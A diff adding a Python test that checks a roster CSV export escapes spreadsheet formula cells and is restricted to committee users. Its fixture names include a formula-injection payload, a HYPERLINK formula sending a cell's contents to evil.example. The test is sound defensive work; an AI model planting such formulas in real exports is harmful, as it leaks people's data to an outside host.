@@ -450,3 +450,29 @@ def test_an_administrator_can_use_the_roster_pages(app, make, as_role):
     for url in ("/committee/cohorts/999", "/committee/cohorts/999/edit", "/committee/roster-imports/999"):
         assert admin.get(url).status_code == 404
     assert admin.post("/committee/trainees/999/invite").status_code == 404
+
+
+def test_the_exported_roster_neutralises_cells_a_spreadsheet_would_run(app, make, as_role):
+    import csv
+    cohort_id = make.cohort(2)
+    names = ['=HYPERLINK("http://evil.example/?"&B2,"클릭")', "+82-10-1234", "-2+3", "@SUM(1,2)", "\t=1+1", "김민준"]
+    user_ids = [make.user(Role.TRAINEE, name=name, email=f"t{n}@example.kr") for n, name in enumerate(names)]
+    with app.app_context():
+        for n, user_id in enumerate(user_ids):
+            trainee = db.session.scalar(select(Trainee).where(Trainee.user_id == user_id))
+            trainee.cohort_id, trainee.phone = cohort_id, "=1+2" if n == 0 else "010-1234-5678"
+        db.session.commit()
+    committee = as_role(Role.COMMITTEE)
+    assert "/roster.csv" in committee.get(f"/committee/cohorts/{cohort_id}").get_data(as_text=True)
+    response = committee.get(f"/committee/cohorts/{cohort_id}/roster.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    # No cell a spreadsheet would evaluate; each such one is shown as written after a quote.
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    exported = {row[0] for row in rows[1:]}
+    assert exported == {"'" + name if name != "김민준" else name for name in names}
+    assert "'=1+2" in cells and "010-1234-5678" in cells
+    # Only the committee downloads it.
+    assert as_role(Role.TRAINEE).get(f"/committee/cohorts/{cohort_id}/roster.csv").status_code == 403
